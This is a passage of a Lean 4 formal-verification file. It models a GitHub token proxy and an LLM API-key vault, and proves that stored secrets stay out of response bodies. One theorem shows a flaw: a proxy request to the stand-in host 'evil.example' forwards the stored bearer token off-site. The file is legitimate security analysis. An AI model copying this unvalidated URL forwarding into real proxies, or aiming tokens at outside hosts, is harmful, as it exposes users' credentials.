import Mathlib

set_option autoImplicit false

namespace ChefWrapper

/-- JSON-like values: the shape of the request and response bodies the two
broker edge functions serialize with JSON.stringify. -/
inductive Json where
  | str (s : String)
  | num (n : Int)
  | bool (b : Bool)
  | null
  | arr (elems : List Json)
  | obj (fields : List (String × Json))
deriving Repr

mutual

/-- All string values occurring in a JSON value (string leaves; object keys
are fixed field names and are not collected). -/
def Json.strings : Json → List String
  | .str s => [s]
  | .num _ => []
  | .bool _ => []
  | .null => []
  | .arr xs => jsonListStrings xs
  | .obj fs => jsonFieldsStrings fs

/-- String leaves of a list of JSON values. -/
def jsonListStrings : List Json → List String
  | [] => []
  | j :: rest => j.strings ++ jsonListStrings rest

/-- String leaves of the values of a JSON object's fields. -/
def jsonFieldsStrings : List (String × Json) → List String
  | [] => []
  | f :: rest => f.2.strings ++ jsonFieldsStrings rest

end

/-- Association-list model of a JS Map (and of a plain object used as a
string-keyed record): first-match lookup. -/
def lookupA {α : Type} (k : String) : List (String × α) → Option α
  | [] => none
  | e :: rest => if e.1 = k then some e.2 else lookupA k rest

/-- Map.set / object property assignment: overwrite in place when the key is
present, append otherwise (JS insertion-order semantics). -/
def setA {α : Type} (k : String) (v : α) : List (String × α) → List (String × α)
  | [] => [(k, v)]
  | e :: rest => if e.1 = k then (k, v) :: rest else e :: setA k v rest

/-- Map.delete / the delete operator: drop the entry with the given key. -/
def removeA {α : Type} (k : String) : List (String × α) → List (String × α)
  | [] => []
  | e :: rest => if e.1 = k then removeA k rest else e :: removeA k rest

/-- JS falsiness of a destructured optional string field: the field is
absent (undefined) or the empty string. -/
def isBlank : Option String → Bool
  | none => true
  | some s => s == ""

/-- A session of the multi-key vault flavor (llm-proxy source): a record of
provider name to API key, plus the creation timestamp. -/
structure ApiKeySession where
  keys : List (String × String)
  createdAt : Int
deriving Repr, DecidableEq

/-- The llm-proxy in-memory session table apiKeySessions. -/
abbrev VaultStore := List (String × ApiKeySession)

/-- cleanupSessions of the llm-proxy source: delete every session with
now - createdAt > 86400000 (24 h TTL). -/
def cleanupVault (now : Int) (store : VaultStore) : VaultStore :=
  store.filter (fun e => decide (now - e.2.createdAt ≤ 86400000))

/-- The destructured request fields the llm-proxy reads from req.json(). -/
structure LlmRequest where
  action : String
  sessionId : Option String
  provider : Option String
  apiKey : Option String
deriving Repr, DecidableEq

/-- Outcome of one llm-proxy request: HTTP status, JSON body, and the
session table after the request. -/
structure LlmResult where
  status : Nat
  body : Json
  store : VaultStore
deriving Repr

/-- Object.keys(session.keys) serialized as a JSON array of strings. -/
def providersJson (keys : List (String × String)) : Json :=
  Json.arr (keys.map (fun e => Json.str e.1))

/-- The llm-proxy request handler (src/unnamed/part_000). `now` is
Date.now() at this request, `fresh` is the generateSessionId() value drawn
if a new session id is needed. The sweep runs first, then the action
dispatch, exactly as in the source. -/
def llmProxyServe (now : Int) (fresh : String) (req : LlmRequest) (store0 : VaultStore) : LlmResult :=
  let store := cleanupVault now store0
  if req.action = "get_session" then
    let sess := if isBlank req.sessionId then none else lookupA (req.sessionId.getD "") store
    match sess with
    | none =>
      ⟨200,
        Json.obj [("sessionId", Json.str fresh), ("providers", Json.arr []),
          ("expiresIn", Json.num 86400)],
        setA fresh ⟨[], now⟩ store⟩
    | some s =>
      ⟨200,
        Json.obj [("sessionId", Json.str (req.sessionId.getD "")),
          ("providers", providersJson s.keys),
          ("expiresIn", Json.num (max 0 (86400 - Int.fdiv (now - s.createdAt) 1000)))],
        store⟩
  else if req.action = "set_key" then
    if isBlank req.sessionId || isBlank req.provider || isBlank req.apiKey then
      ⟨400, Json.obj [("error", Json.str "Session ID, provider, and API key are required")], store⟩
    else
      let sid := req.sessionId.getD ""
      let sess := (lookupA sid store).getD ⟨[], now⟩
      let sess2 : ApiKeySession :=
        ⟨setA (req.provider.getD "") (req.apiKey.getD "") sess.keys, sess.createdAt⟩
      ⟨200,
        Json.obj [("success", Json.bool true), ("providers", providersJson sess2.keys)],
        setA sid sess2 store⟩
  else if req.action = "remove_key" then
    if isBlank req.sessionId || isBlank req.provider then
      ⟨400, Json.obj [("error", Json.str "Session ID and provider are required")], store⟩
    else
      match lookupA (req.sessionId.getD "") store with
      | some s =>
        let s2 : ApiKeySession := ⟨removeA (req.provider.getD "") s.keys, s.createdAt⟩
        ⟨200,
          Json.obj [("success", Json.bool true), ("providers", providersJson s2.keys)],
          setA (req.sessionId.getD "") s2 store⟩
      | none =>
        ⟨200, Json.obj [("success", Json.bool true), ("providers", Json.arr [])], store⟩
  else if req.action = "check_key" then
    if isBlank req.sessionId || isBlank req.provider then
      ⟨400, Json.obj [("error", Json.str "Session ID and provider are required")], store⟩
    else
      let hk := match lookupA (req.sessionId.getD "") store with
        | some s =>
          match lookupA (req.provider.getD "") s.keys with
          | some v => !(v == "")
          | none => false
        | none => false
      ⟨200, Json.obj [("hasKey", Json.bool hk)], store⟩
  else if req.action = "destroy_session" then
    if isBlank req.sessionId then
      ⟨200, Json.obj [("success", Json.bool true)], store⟩
    else
      ⟨200, Json.obj [("success", Json.bool true)], removeA (req.sessionId.getD "") store⟩
  else
    ⟨400, Json.obj [("error", Json.str "Invalid action")], store⟩

/-- A session of the single-bearer-token flavor (github-proxy source). -/
structure GhSession where
  token : String
  tokenType : String
  createdAt : Int
deriving Repr, DecidableEq

/-- The github-proxy in-memory session table. -/
abbrev GhStore := List (String × GhSession)

/-- cleanupSessions of the github-proxy source: delete every session with
now - createdAt > 3600000 (1 h TTL). -/
def cleanupGh (now : Int) (store : GhStore) : GhStore :=
  store.filter (fun e => decide (now - e.2.createdAt ≤ 3600000))

/-- The upstream (fetch) response observed by a request, as far as the
handler reads it: status, whether .json() succeeded and with which value,
the runtime message of the .json() parse error (create_session path lets it
escape to the catch-all), and the three rate-limit headers. -/
structure Upstream where
  status : Nat
  jsonOk : Bool
  jsonBody : Json
  parseErrMsg : String
  rlLimit : Option String
  rlRemaining : Option String
  rlReset : Option String
deriving Repr

/-- Response.ok of the fetch API: status in the 200..299 range. -/
def Upstream.isOk (u : Upstream) : Bool :=
  decide (200 ≤ u.status) && decide (u.status ≤ 299)

/-- One outbound fetch as the handler issues it: target URL, HTTP method,
and the Authorization header value. (The forwarded JSON body is opaque to
every property considered here and is not recorded.) -/
structure FetchCall where
  url : String
  method : String
  authorization : String
deriving Repr, DecidableEq

/-- The destructured request fields the github-proxy reads from req.json().
(The optional body field only toggles an opaque pass-through payload and a
Content-Type header; it is not modelled.) -/
structure GhRequest where
  action : String
  token : Option String
  tokenType : Option String
  sessionId : Option String
  endpoint : Option String
  method : Option String
deriving Repr, DecidableEq

/-- Outcome of one github-proxy request: HTTP status, JSON body, resulting
session table, and the outbound fetches issued while handling it. -/
structure GhResult where
  status : Nat
  body : Json
  store : GhStore
  calls : List FetchCall
deriving Repr

/-- Executable model of String.startsWith: character-list prefix test. -/
def strStarts (s pre : String) : Bool :=
  pre.data.isPrefixOf s.data

/-- fullUrl computation of the proxy action: an endpoint starting with
https:// is used verbatim; otherwise it is joined onto the fixed base,
inserting a slash when missing. -/
def fullUrl (endpoint : String) : String :=
  if strStarts endpoint "https://" then endpoint
  else if strStarts endpoint "/" then "https://api.github.com" ++ endpoint
  else "https://api.github.com" ++ ("/" ++ endpoint)

/-- A nullable header value serialized by JSON.stringify: null or a string. -/
def optStrJson : Option String → Json
  | none => Json.null
  | some s => Json.str s

/-- Host component of an absolute https URL: the characters between the
scheme separator and the first following slash. -/
def urlHost (url : String) : String :=
  if strStarts url "https://" then String.mk ((url.data.drop 8).takeWhile (fun c => c ≠ '/'))
  else ""

/-- The github-proxy request handler (src/unnamed/part_001). `now` is
Date.now() at this request, `fresh` the generateSessionId() draw, and `up`
the upstream response the single fetch of this request (if any) returns.
The sweep runs first, then the action dispatch, exactly as in the source. -/
def githubProxyServe (now : Int) (fresh : String) (up : Upstream) (req : GhRequest) (store0 : GhStore) : GhResult :=
  let store := cleanupGh now store0
  if req.action = "create_session" then
    if isBlank req.token then
      ⟨400, Json.obj [("error", Json.str "Token is required")], store, []⟩
    else
      let tok := req.token.getD ""
      let call : FetchCall := ⟨"https://api.github.com/user", "GET", "Bearer " ++ tok⟩
      if !up.isOk then
        ⟨401, Json.obj [("error", Json.str "Invalid GitHub token")], store, [call]⟩
      else if !up.jsonOk then
        ⟨500, Json.obj [("error", Json.str up.parseErrMsg)], store, [call]⟩
      else
        let ttype := if isBlank req.tokenType then "classic" else req.tokenType.getD ""
        ⟨200,
          Json.obj [("sessionId", Json.str fresh), ("user", up.jsonBody),
            ("expiresIn", Json.num 3600)],
          setA fresh ⟨tok, ttype, now⟩ store, [call]⟩
  else if req.action = "destroy_session" then
    if isBlank req.sessionId then
      ⟨200, Json.obj [("success", Json.bool true)], store, []⟩
    else
      ⟨200, Json.obj [("success", Json.bool true)], removeA (req.sessionId.getD "") store, []⟩
  else if req.action = "proxy" then
    if isBlank req.sessionId then
      ⟨401, Json.obj [("error", Json.str "Session ID is required")], store, []⟩
    else
      match lookupA (req.sessionId.getD "") store with
      | none => ⟨401, Json.obj [("error", Json.str "Invalid or expired session")], store, []⟩
      | some sess =>
        if isBlank req.endpoint then
          ⟨400, Json.obj [("error", Json.str "Endpoint is required")], store, []⟩
        else
          let url := fullUrl (req.endpoint.getD "")
          let meth := if isBlank req.method then "GET" else req.method.getD ""
          let call : FetchCall := ⟨url, meth, "Bearer " ++ sess.token⟩
          let data := if up.jsonOk then up.jsonBody else Json.obj []
          let rl := Json.obj [("limit", optStrJson up.rlLimit),
            ("remaining", optStrJson up.rlRemaining), ("reset", optStrJson up.rlReset)]
          ⟨(if up.isOk then 200 else up.status),
            Json.obj [("data", data), ("status", Json.num (Int.ofNat up.status)),
              ("rateLimit", rl)],
            store, [call]⟩
  else
    ⟨400, Json.obj [("error", Json.str "Invalid action")], store, []⟩

section AssocLemmas

variable {α : Type}

theorem lookupA_setA_self (k : String) (v : α) (l : List (String × α)) :
    lookupA k (setA k v l) = some v := by
  induction l with
  | nil => simp [setA, lookupA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · simp [setA, h, lookupA]
    · simp [setA, h, lookupA, ih]

theorem lookupA_setA_ne (k k' : String) (v : α) (l : List (String × α)) (h : k' ≠ k) :
    lookupA k' (setA k v l) = lookupA k' l := by
  have hkk : ¬ (k = k') := fun hh => h hh.symm
  induction l with
  | nil => simp [setA, lookupA, hkk]
  | cons e rest ih =>
    by_cases he : e.1 = k
    · have h2 : ¬ (e.1 = k') := by rw [he]; exact hkk
      rw [setA, if_pos he, lookupA, if_neg hkk, lookupA, if_neg h2]
    · rw [setA, if_neg he, lookupA, lookupA]
      by_cases he' : e.1 = k'
      · rw [if_pos he', if_pos he']
      · rw [if_neg he', if_neg he', ih]

theorem lookupA_removeA_self (k : String) (l : List (String × α)) :
    lookupA k (removeA k l) = none := by
  induction l with
  | nil => simp [removeA, lookupA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · simp [removeA, h, ih]
    · simp [removeA, h, lookupA, ih]

theorem lookupA_removeA_ne (k k' : String) (l : List (String × α)) (h : k' ≠ k) :
    lookupA k' (removeA k l) = lookupA k' l := by
  have hkk : ¬ (k = k') := fun hh => h hh.symm
  induction l with
  | nil => simp [removeA, lookupA]
  | cons e rest ih =>
    by_cases he : e.1 = k
    · have h2 : ¬ (e.1 = k') := by rw [he]; exact hkk
      rw [removeA, if_pos he, lookupA, if_neg h2, ih]
    · rw [removeA, if_neg he, lookupA, lookupA]
      by_cases he' : e.1 = k'
      · rw [if_pos he', if_pos he']
      · rw [if_neg he', if_neg he', ih]

theorem lookupA_mem {k : String} {v : α} {l : List (String × α)} :
    lookupA k l = some v → (k, v) ∈ l := by
  induction l with
  | nil => simp [lookupA]
  | cons e rest ih =>
    intro hv
    by_cases h : e.1 = k
    · rw [lookupA, if_pos h] at hv
      injection hv with hv2
      have hev : e = (k, v) := by
        cases e
        simp_all
      rw [hev]
      exact List.mem_cons_self _ _
    · rw [lookupA, if_neg h] at hv
      exact List.mem_cons_of_mem _ (ih hv)

theorem lookupA_eq_none_iff {k : String} {l : List (String × α)} :
    lookupA k l = none ↔ k ∉ l.map Prod.fst := by
  induction l with
  | nil => simp [lookupA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · simp [lookupA, h]
    · have h' : ¬ (k = e.1) := fun hh => h hh.symm
      simp [lookupA, h, ih, h']

theorem lookupA_filter_none {k : String} {l : List (String × α)} (p : String × α → Bool)
    (h : lookupA k l = none) : lookupA k (l.filter p) = none := by
  rw [lookupA_eq_none_iff] at h ⊢
  intro hmem
  apply h
  rcases List.mem_map.mp hmem with ⟨e, he, hk⟩
  exact List.mem_map.mpr ⟨e, List.mem_of_mem_filter he, hk⟩

theorem lookupA_filter {p : String × α → Bool} {k : String} {l : List (String × α)}
    (hnd : (l.map Prod.fst).Nodup) (v : α) :
    lookupA k (l.filter p) = some v ↔ (lookupA k l = some v ∧ p (k, v) = true) := by
  induction l with
  | nil => simp [lookupA]
  | cons e rest ih =>
    simp only [List.map_cons, List.nodup_cons] at hnd
    obtain ⟨hnotin, hnd'⟩ := hnd
    by_cases h : e.1 = k
    · subst h
      have hnone : lookupA e.1 rest = none := by
        rw [lookupA_eq_none_iff]
        exact hnotin
      by_cases hp : p e = true
      · rw [List.filter_cons, if_pos hp]
        simp only [lookupA, if_pos rfl]
        constructor
        · intro hv
          refine ⟨hv, ?_⟩
          injection hv with hv2
          rw [← hv2]
          exact hp
        · exact fun hpair => hpair.1
      · rw [List.filter_cons, if_neg hp, lookupA_filter_none p hnone]
        simp only [lookupA, if_pos rfl]
        constructor
        · intro hc
          exact absurd hc (by simp)
        · rintro ⟨hv, hpe⟩
          injection hv with hv2
          rw [← hv2] at hpe
          exact absurd hpe hp
    · by_cases hp : p e = true
      · rw [List.filter_cons, if_pos hp]
        simp only [lookupA, if_neg h]
        exact ih hnd'
      · rw [List.filter_cons, if_neg hp]
        simp only [lookupA, if_neg h]
        exact ih hnd'

theorem keys_setA_subset (k : String) (v : α) (l : List (String × α)) :
    ((setA k v l).map Prod.fst) ⊆ k :: l.map Prod.fst := by
  induction l with
  | nil => simp [setA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · simp [setA, h]
    · simp only [setA, if_neg h, List.map_cons]
      intro x hx
      rcases List.mem_cons.mp hx with hx | hx
      · simp [hx]
      · rcases List.mem_cons.mp (ih hx) with hx' | hx'
        · simp [hx']
        · simp [hx']

theorem keys_removeA_subset (k : String) (l : List (String × α)) :
    ((removeA k l).map Prod.fst) ⊆ l.map Prod.fst := by
  induction l with
  | nil => simp [removeA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · simp only [removeA, if_pos h, List.map_cons]
      exact fun x hx => List.mem_cons_of_mem _ (ih hx)
    · simp only [removeA, if_neg h, List.map_cons]
      intro x hx
      rcases List.mem_cons.mp hx with hx | hx
      · simp [hx]
      · exact List.mem_cons_of_mem _ (ih hx)

theorem nodup_keys_setA (k : String) (v : α) (l : List (String × α))
    (h : (l.map Prod.fst).Nodup) : ((setA k v l).map Prod.fst).Nodup := by
  induction l with
  | nil => simp [setA]
  | cons e rest ih =>
    simp only [List.map_cons, List.nodup_cons] at h
    obtain ⟨hnotin, hnd⟩ := h
    by_cases he : e.1 = k
    · rw [setA, if_pos he]
      simp only [List.map_cons, List.nodup_cons]
      refine ⟨?_, hnd⟩
      show k ∉ List.map Prod.fst rest
      rw [← he]
      exact hnotin
    · simp only [setA, if_neg he, List.map_cons, List.nodup_cons]
      refine ⟨fun hc => ?_, ih hnd⟩
      rcases List.mem_cons.mp ((keys_setA_subset k v rest) hc) with hc' | hc'
      · exact he hc'
      · exact hnotin hc'

theorem nodup_keys_removeA (k : String) (l : List (String × α))
    (h : (l.map Prod.fst).Nodup) : ((removeA k l).map Prod.fst).Nodup := by
  induction l with
  | nil => simp [removeA]
  | cons e rest ih =>
    simp only [List.map_cons, List.nodup_cons] at h
    obtain ⟨hnotin, hnd⟩ := h
    by_cases he : e.1 = k
    · simp only [removeA, if_pos he]
      exact ih hnd
    · simp only [removeA, if_neg he, List.map_cons, List.nodup_cons]
      exact ⟨fun hc => hnotin ((keys_removeA_subset k rest) hc), ih hnd⟩

theorem nodup_keys_filter (p : String × α → Bool) (l : List (String × α))
    (h : (l.map Prod.fst).Nodup) : ((l.filter p).map Prod.fst).Nodup := by
  induction l with
  | nil => simp
  | cons e rest ih =>
    simp only [List.map_cons, List.nodup_cons] at h
    obtain ⟨hnotin, hnd⟩ := h
    by_cases hp : p e = true
    · simp only [List.filter_cons, hp, if_pos, List.map_cons, List.nodup_cons]
      refine ⟨fun hc => ?_, ih hnd⟩
      apply hnotin
      rcases List.mem_map.mp hc with ⟨e', he', hk⟩
      exact List.mem_map.mpr ⟨e', List.mem_of_mem_filter he', hk⟩
    · simp only [List.filter_cons, hp, Bool.false_eq_true, if_false]
      exact ih hnd

theorem removeA_idem (k : String) (l : List (String × α)) :
    removeA k (removeA k l) = removeA k l := by
  induction l with
  | nil => simp [removeA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · simp [removeA, h, ih]
    · simp [removeA, h, ih]

theorem removeA_filter_comm (k : String) (p : String × α → Bool) (l : List (String × α)) :
    removeA k (l.filter p) = (removeA k l).filter p := by
  induction l with
  | nil => simp [removeA]
  | cons e rest ih =>
    by_cases h : e.1 = k
    · by_cases hp : p e = true
      · simp [List.filter_cons, hp, removeA, h, ih]
      · simp [List.filter_cons, hp, removeA, h, ih]
    · by_cases hp : p e = true
      · simp [List.filter_cons, hp, removeA, h, ih]
      · simp [List.filter_cons, hp, removeA, h, ih]

theorem filter_idem (p : String × α → Bool) (l : List (String × α)) :
    (l.filter p).filter p = l.filter p := by
  induction l with
  | nil => simp
  | cons e rest ih =>
    by_cases hp : p e = true
    · simp [List.filter_cons, hp, ih]
    · simp [List.filter_cons, hp, ih]

end AssocLemmas

/-- The zero-or-one element list of an optional string. -/
def optToList : Option String → List String
  | none => []
  | some s => [s]

/-- All provider names stored anywhere in the vault table. -/
def vaultProviders (store : VaultStore) : List String :=
  store.flatMap (fun e => e.2.keys.map Prod.fst)

/-- All stored secret values of the vault table: the API key strings. -/
def vaultSecrets (store : VaultStore) : List String :=
  store.flatMap (fun e => e.2.keys.map Prod.snd)

/-- All stored secret values of the bearer-token table: the tokens. -/
def ghSecrets (store : GhStore) : List String :=
  store.map (fun e => e.2.token)

/-- The non-secret string sources an llm-proxy response may draw from:
fixed message literals, the fresh session id, the caller-supplied session id
and provider name, and provider names already in the table. Stored API key
values are deliberately not a source. -/
def llmPool (fresh : String) (req : LlmRequest) (store : VaultStore) : List String :=
  ["Session ID, provider, and API key are required",
   "Session ID and provider are required",
   "Invalid action",
   fresh] ++ optToList req.sessionId ++ optToList req.provider ++ vaultProviders store

/-- The non-secret string sources a github-proxy response may draw from:
fixed message literals, the parse-error message, the fresh session id, the
upstream JSON body's strings, and the rate-limit header values. Stored
bearer tokens are deliberately not a source. -/
def ghPool (fresh : String) (req : GhRequest) (up : Upstream) : List String :=
  ["Token is required", "Invalid GitHub token", "Session ID is required",
   "Invalid or expired session", "Endpoint is required", "Invalid action",
   up.parseErrMsg, fresh] ++ optToList req.sessionId ++ up.jsonBody.strings
  ++ optToList up.rlLimit ++ optToList up.rlRemaining ++ optToList up.rlReset

theorem providers_mem_of_lookupA {now : Int} {sid : String} {s : ApiKeySession}
    {store : VaultStore} (h : lookupA sid (cleanupVault now store) = some s) :
    ∀ p ∈ s.keys.map Prod.fst, p ∈ vaultProviders store := by
  intro p hp
  have hmem : (sid, s) ∈ cleanupVault now store := lookupA_mem h
  have hmem' : (sid, s) ∈ store := List.mem_of_mem_filter hmem
  unfold vaultProviders
  rw [List.mem_flatMap]
  exact ⟨(sid, s), hmem', hp⟩

theorem mem_providersJson_strings {x : String} (ks : List (String × String)) :
    x ∈ (providersJson ks).strings → x ∈ ks.map Prod.fst := by
  induction ks with
  | nil =>
    intro hx
    simp [providersJson, Json.strings, jsonListStrings] at hx
  | cons e rest ih =>
    intro hx
    simp only [providersJson, Json.strings, List.map_cons, jsonListStrings,
      List.cons_append, List.nil_append, List.mem_cons] at hx
    rcases hx with hx | hx
    · simp [hx]
    · have := ih (by simp only [providersJson, Json.strings]; exact hx)
      simp only [List.map_cons, List.mem_cons]
      exact Or.inr this

theorem llm_body_strings_sub (now : Int) (fresh : String) (req : LlmRequest)
    (store0 : VaultStore) :
    (llmProxyServe now fresh req store0).body.strings ⊆ llmPool fresh req store0 := by
  obtain ⟨act, osid, oprov, okey⟩ := req
  intro x hx
  by_cases h1 : act = "get_session"
  · simp only [llmProxyServe, h1, if_true, if_pos rfl] at hx
    by_cases hb : isBlank osid = true
    · simp only [hb, if_true, if_pos rfl] at hx
      simp only [Json.strings, jsonFieldsStrings, jsonListStrings, List.append_nil,
        List.nil_append, List.mem_singleton] at hx
      simp [llmPool, hx]
    · simp only [hb] at hx
      rw [if_neg (by simp [hb])] at hx
      cases hlu : lookupA (Option.getD osid "") (cleanupVault now store0) with
      | none =>
        rw [hlu] at hx
        simp only [Json.strings, jsonFieldsStrings, jsonListStrings, List.append_nil,
          List.nil_append, List.mem_singleton] at hx
        simp [llmPool, hx]
      | some s =>
        rw [hlu] at hx
        simp only [Json.strings, jsonFieldsStrings, List.append_nil,
          List.nil_append, List.mem_append, List.mem_singleton] at hx
        cases osid with
        | none => simp [isBlank] at hb
        | some sid0 =>
          rcases hx with hx | hx
          · simp [llmPool, optToList, hx]
          · have hx' := mem_providersJson_strings s.keys hx
            have := providers_mem_of_lookupA hlu x hx'
            simp [llmPool, this]
  · simp only [llmProxyServe, h1, if_false] at hx
    by_cases h2 : act = "set_key"
    · simp only [h2, if_true, if_pos rfl] at hx
      by_cases hv : (isBlank osid || isBlank oprov || isBlank okey) = true
      · simp only [hv, if_true, if_pos rfl] at hx
        simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
          List.mem_singleton] at hx
        simp [llmPool, hx]
      · simp only [hv] at hx
        rw [if_neg (by simp [hv])] at hx
        simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
          List.mem_append, List.not_mem_nil, false_or] at hx
        have hx' := mem_providersJson_strings _ hx
        have hsub := keys_setA_subset (Option.getD oprov "") (Option.getD okey "")
          ((lookupA (Option.getD osid "") (cleanupVault now store0)).getD ⟨[], now⟩).keys
        rcases List.mem_cons.mp (hsub hx') with hx2 | hx2
        · cases oprov with
          | none => simp [isBlank] at hv
          | some p0 => simp [llmPool, optToList, isBlank, hx2]
        · cases hlu : lookupA (Option.getD osid "") (cleanupVault now store0) with
          | none =>
            rw [hlu] at hx2
            simp at hx2
          | some s =>
            rw [hlu] at hx2
            have := providers_mem_of_lookupA hlu x hx2
            simp [llmPool, this]
    · simp only [h2, if_false] at hx
      by_cases h3 : act = "remove_key"
      · simp only [h3, if_true, if_pos rfl] at hx
        by_cases hv : (isBlank osid || isBlank oprov) = true
        · simp only [hv, if_true, if_pos rfl] at hx
          simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
            List.mem_singleton] at hx
          simp [llmPool, hx]
        · simp only [hv] at hx
          rw [if_neg (by simp [hv])] at hx
          cases hlu : lookupA (Option.getD osid "") (cleanupVault now store0) with
          | none =>
            rw [hlu] at hx
            simp [Json.strings, jsonFieldsStrings, jsonListStrings] at hx
          | some s =>
            rw [hlu] at hx
            simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
              List.mem_append, List.not_mem_nil, false_or] at hx
            have hx' := mem_providersJson_strings _ hx
            have hx2 := keys_removeA_subset (Option.getD oprov "") s.keys hx'
            have := providers_mem_of_lookupA hlu x hx2
            simp [llmPool, this]
      · simp only [h3, if_false] at hx
        by_cases h4 : act = "check_key"
        · simp only [h4, if_true, if_pos rfl] at hx
          by_cases hv : (isBlank osid || isBlank oprov) = true
          · simp only [hv, if_true, if_pos rfl] at hx
            simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
              List.mem_singleton] at hx
            simp [llmPool, hx]
          · simp only [hv] at hx
            rw [if_neg (by simp [hv])] at hx
            simp [Json.strings, jsonFieldsStrings] at hx
        · simp only [h4, if_false] at hx
          by_cases h5 : act = "destroy_session"
          · simp only [h5, if_true, if_pos rfl] at hx
            by_cases hb : isBlank osid = true
            · simp only [hb, if_true, if_pos rfl] at hx
              simp [Json.strings, jsonFieldsStrings] at hx
            · simp only [hb] at hx
              rw [if_neg (by simp [hb])] at hx
              simp [Json.strings, jsonFieldsStrings] at hx
          · simp only [h5, if_false, Json.strings, jsonFieldsStrings, List.append_nil,
              List.nil_append, List.mem_singleton] at hx
            simp [llmPool, hx]

theorem mem_optStrJson_strings {x : String} (o : Option String) :
    x ∈ (optStrJson o).strings → x ∈ optToList o := by
  cases o with
  | none => simp [optStrJson, Json.strings, optToList]
  | some s => simp [optStrJson, Json.strings, optToList]

theorem gh_body_strings_sub (now : Int) (fresh : String) (up : Upstream) (req : GhRequest)
    (store0 : GhStore) :
    (githubProxyServe now fresh up req store0).body.strings ⊆ ghPool fresh req up := by
  obtain ⟨act, otok, ottype, osid, oep, ometh⟩ := req
  intro x hx
  by_cases h1 : act = "create_session"
  · simp only [githubProxyServe, h1, if_true, if_pos rfl] at hx
    by_cases hb : isBlank otok = true
    · simp only [hb, if_true, if_pos rfl] at hx
      simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
        List.mem_singleton] at hx
      simp [ghPool, hx]
    · simp only [hb] at hx
      rw [if_neg (by simp [hb])] at hx
      by_cases hok : up.isOk = true
      · simp only [hok, Bool.not_true, Bool.false_eq_true, if_false] at hx
        by_cases hj : up.jsonOk = true
        · simp only [hj, Bool.not_true, Bool.false_eq_true, if_false] at hx
          simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
            List.mem_append, List.mem_singleton] at hx
          rcases hx with hx | hx
          · simp [ghPool, hx]
          · simp [ghPool, hx]
        · simp only [Bool.not_eq_true] at hj
          simp only [hj, Bool.not_false, if_true, if_pos rfl] at hx
          simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
            List.mem_singleton] at hx
          simp [ghPool, hx]
      · simp only [Bool.not_eq_true] at hok
        simp only [hok, Bool.not_false, if_true, if_pos rfl] at hx
        simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
          List.mem_singleton] at hx
        simp [ghPool, hx]
  · simp only [githubProxyServe, h1, if_false] at hx
    by_cases h2 : act = "destroy_session"
    · simp only [h2, if_true, if_pos rfl] at hx
      by_cases hb : isBlank osid = true
      · simp only [hb, if_true, if_pos rfl] at hx
        simp [Json.strings, jsonFieldsStrings] at hx
      · simp only [hb] at hx
        rw [if_neg (by simp [hb])] at hx
        simp [Json.strings, jsonFieldsStrings] at hx
    · simp only [h2, if_false] at hx
      by_cases h3 : act = "proxy"
      · simp only [h3, if_true, if_pos rfl] at hx
        by_cases hb : isBlank osid = true
        · simp only [hb, if_true, if_pos rfl] at hx
          simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
            List.mem_singleton] at hx
          simp [ghPool, hx]
        · simp only [hb] at hx
          rw [if_neg (by simp [hb])] at hx
          cases hlu : lookupA (Option.getD osid "") (cleanupGh now store0) with
          | none =>
            rw [hlu] at hx
            simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
              List.mem_singleton] at hx
            simp [ghPool, hx]
          | some sess =>
            rw [hlu] at hx
            by_cases hep : isBlank oep = true
            · simp only [hep, if_true, if_pos rfl] at hx
              simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
                List.mem_singleton] at hx
              simp [ghPool, hx]
            · simp only [hep] at hx
              rw [if_neg (by simp [hep])] at hx
              simp only [Json.strings, jsonFieldsStrings, List.append_nil, List.nil_append,
                List.mem_append] at hx
              rcases hx with hx | hx
              · by_cases hj : up.jsonOk = true
                · rw [if_pos hj] at hx
                  simp [ghPool, hx]
                · rw [if_neg (by simp [hj])] at hx
                  simp [Json.strings, jsonFieldsStrings] at hx
              · rcases hx with hx | hx
                · have := mem_optStrJson_strings up.rlLimit hx
                  simp [ghPool, this]
                · rcases hx with hx | hx
                  · have := mem_optStrJson_strings up.rlRemaining hx
                    simp [ghPool, this]
                  · have := mem_optStrJson_strings up.rlReset hx
                    simp [ghPool, this]
      · simp only [h3, if_false, Json.strings, jsonFieldsStrings, List.append_nil,
          List.nil_append, List.mem_singleton] at hx
        simp [ghPool, hx]

/-- C1: at a live session holding bearer token "sekret", a proxy request whose
endpoint is the absolute URL "https://evil.example/steal" — a host other than
api.github.com — is neither rejected nor stripped: the handler issues the
upstream fetch to the foreign host with the Authorization header carrying the
stored token. This exhibits the exfiltration the claim says cannot happen. -/
theorem proxy_host_leak :
    (githubProxyServe 0 "f"
        ⟨404, true, Json.obj [], "perr", none, none, none⟩
        ⟨"proxy", none, none, some "sid1", some "https://evil.example/steal", none⟩
        [("sid1", ⟨"sekret", "classic", 0⟩)]).calls =
      [⟨"https://evil.example/steal", "GET", "Bearer sekret"⟩] ∧
    urlHost "https://evil.example/steal" ≠ "api.github.com" := by
  constructor
  · rfl
  · decide

/-- C2: for every action of either broker flavor, the response body draws its
strings only from the non-secret pool (fixed literals, session ids, provider
names, upstream profile data, rate-limit metadata); hence a stored secret —
a vault API key or a session bearer token — that does not collide with any
of those non-secret sources never occurs in any response body. -/
theorem secrecy_invariant :
    (∀ (now : Int) (fresh : String) (req : LlmRequest) (store : VaultStore) (secret : String),
      (secret ∈ vaultSecrets store ∨
        secret ∈ vaultSecrets (llmProxyServe now fresh req store).store) →
      secret ∉ llmPool fresh req store →
      secret ∉ (llmProxyServe now fresh req store).body.strings) ∧
